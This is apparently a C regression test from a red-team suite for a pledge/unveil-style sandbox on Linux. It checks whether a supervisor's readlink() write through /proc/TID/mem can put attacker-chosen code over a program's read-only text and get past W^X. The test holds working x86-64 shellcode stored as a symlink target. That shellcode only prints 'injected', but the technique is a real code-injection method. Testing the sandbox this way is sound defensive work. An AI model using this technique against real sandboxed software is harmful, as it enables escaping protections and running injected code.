/* SPDX-License-Identifier: ISC */
/*
 * wx_supervisor_write.c: new code in the program's text, written by the
 * supervisor (issue 46, W^X).
 *
 * pledge() without prot_exec keeps W^X: no mapping becomes executable
 * (mprotect with PROT_EXEC is refused).  The supervisor writes a call's
 * results into the caller through /proc/TID/mem (sup_loop.c,
 * sup_write()), which writes read-only pages too (FOLL_FORCE): a
 * readlink() under unveil's lock, whose target the attacker chose,
 * lands wherever the buffer argument points, the program's own code
 * included.  The link visible/link holds code (no NUL byte) that writes
 * a line; readlink() puts it over a function, which is then called.
 */
#include <sys/mman.h>
#include <sys/stat.h>

#include <errno.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"

#if defined(__x86_64__)
/* jmp 2f; 1: pop %rsi; write(1, %rsi, 9); ret; 2: call 1b; "injected\n" */
static const char code[] = "\xeb\x0d\x5e\x6a\x01\x5f\x6a\x09\x5a\x6a\x01"
    "\x58\x0f\x05\xc3\xe8\xee\xff\xff\xffinjected\n";
#else
static const char code[1];	/* never run: main() says n/a */
#endif

__attribute__((noinline, aligned(4096))) static long
victim(void)
{
	__asm__ volatile("" ::: "memory");
	return 1;
}
static long (*volatile call)(void) = victim;

static int
attack(void *arg)
{
	int tamed = *(int *)arg;
	char *text = (char *)(uintptr_t)victim;

	rt_stdout_up();
	if (tamed) {
		rt_unveil(rt_path("visible"), "rwc");
		rt_pledge("stdio rpath error", NULL);
		/* W^X: the page cannot be made writable and executable */
		if (mprotect((void *)((uintptr_t)text & ~4095UL), 4096,
		    PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
			return 2;
	} else if (mprotect((void *)((uintptr_t)text & ~4095UL), 4096,
	    PROT_READ | PROT_WRITE | PROT_EXEC) == -1)
		return RT_SETUP;
	rt_sh->ret = readlink(rt_path("visible/link"), text, sizeof(code) - 1);
	call();
	return 0;
}

int
main(int argc, char **argv)
{
	struct rt_kid k;
	char out[64];
	size_t n;
	int tamed;

	rt_init(argc, argv);
#if !defined(__x86_64__)
	rt_na("the code is x86-64's");
	return rt_finish();
#endif
	if (!rt_need_landlock())
		return rt_finish();
	rt_two_dirs();
	if (symlink(code, rt_path("visible/link")) == -1)
		rt_fatal("symlink");
	for (tamed = 0; tamed < 2; tamed++) {
		memset(out, 0, sizeof(out));
		n = rt_run(&k, attack, &tamed, out, sizeof(out) - 1);
		if (rt_exited(k.status, 2)) {
			rt_broken("pledge(\"stdio rpath\"): mprotect made the "
			    "text writable and executable");
			break;
		}
		if (!tamed && memmem(out, n, "injected", 8) == NULL) {
			rt_na("untamed, the code readlink() wrote did not run");
			break;
		}
		if (tamed && memmem(out, n, "injected", 8) != NULL)
			rt_escaped("unveil(\"visible\", \"rwc\"), pledge(\"stdio "
			    "rpath error\"): readlink() by the supervisor wrote %ld "
			    "bytes of code over the program's text, which ran "
			    "(mprotect PROT_EXEC refused)", rt_sh->ret);
		else if (tamed)
			rt_held("pledge(\"stdio rpath\"): readlink into the "
			    "text answered %ld, no new code ran", rt_sh->ret);
	}
	return rt_finish();
}
